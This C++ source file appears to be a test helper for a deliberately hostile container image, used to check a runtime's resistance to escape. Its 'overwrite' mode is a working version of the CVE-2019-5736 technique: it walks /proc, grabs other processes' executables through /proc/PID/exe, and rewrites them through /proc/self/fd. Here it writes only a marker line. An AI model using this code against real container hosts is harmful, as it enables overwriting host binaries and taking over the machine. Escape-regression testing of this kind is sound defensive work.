// What a hostile image runs. Static.
//
//   attacker overwrite STOP [PID]  until the file STOP is there: looks for
//       programs of other processes (or of PID) that are not the image's, and
//       tries to overwrite their files once they have ended, as CVE-2019-5736
//       did. Prints "ready", "seen" at the first one, and in the end "wrote N".
//   attacker escaped               prints "ESCAPED"
//   attacker sleep                 sleeps for half a second
#include <dirent.h>
#include <fcntl.h>
#include <sys/types.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

constexpr int kTries = 4000;

bool seen = false;
int written = 0;

bool IsOfTheImage(const char* path) {
  return strcmp(path, "/bin/busybox") == 0 ||
         strcmp(path, "/bin/attacker") == 0;
}

void Write(int file, int tries) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
  // It is busy for as long as somebody executes it.
  for (int i = 0; i < tries; ++i) {
    const int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
      usleep(200);
      continue;
    }
    if (write(fd, "#!overwritten\n", 14) == 14) ++written;
    close(fd);
    return;
  }
}

// Whether there is such a process, or one that lets nobody look.
bool Attack(int pid, int tries) {
  char path[64];
  char target[256] = {};
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  if (readlink(path, target, sizeof(target) - 1) <= 0) return errno == EACCES;
  if (IsOfTheImage(target)) return true;
  const int file = open(path, O_PATH | O_CLOEXEC);
  if (file < 0) return true;
  if (!seen) printf("seen %s\n", target);
  seen = true;
  Write(file, tries);
  close(file);
  return true;
}

// Every process; returns the highest id.
int AttackAll() {
  int highest = 0;
  DIR* processes = opendir("/proc");
  if (processes == nullptr) return 0;
  while (const dirent* entry = readdir(processes)) {
    const int pid = atoi(entry->d_name);
    if (pid > highest) highest = pid;
    if (pid > 0 && pid != getpid()) Attack(pid, kTries);
  }
  closedir(processes);
  return highest;
}

int Overwrite(const char* stop, int pid) {
  printf("ready\n");
  while (access(stop, F_OK) != 0) {
    if (pid > 0) {
      Attack(pid, kTries);
      continue;
    }
    // Those that are about to be: what is to be met lives only for a moment.
    int next = AttackAll() + 1;
    for (int i = 0; i < 20000; ++i) {
      // A round takes minutes where each system call is slow.
      if (i % 256 == 255 && access(stop, F_OK) == 0) break;
      for (int ahead = 3; ahead >= 0; --ahead) {
        if (Attack(next + ahead, kTries)) {
          next += ahead;
          break;
        }
      }
    }
  }
  printf("wrote %d\n", written);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  setvbuf(stdout, nullptr, _IOLBF, 0);
  const char* verb = argc > 1 ? argv[1] : "";
  if (argc > 2 && strcmp(verb, "overwrite") == 0) {
    return Overwrite(argv[2], argc > 3 ? atoi(argv[3]) : 0);
  }
  if (strcmp(verb, "sleep") == 0) return usleep(500000);
  // However it is called: as an interpreter it gets a path first.
  printf("ESCAPED\n");
  return 0;
}
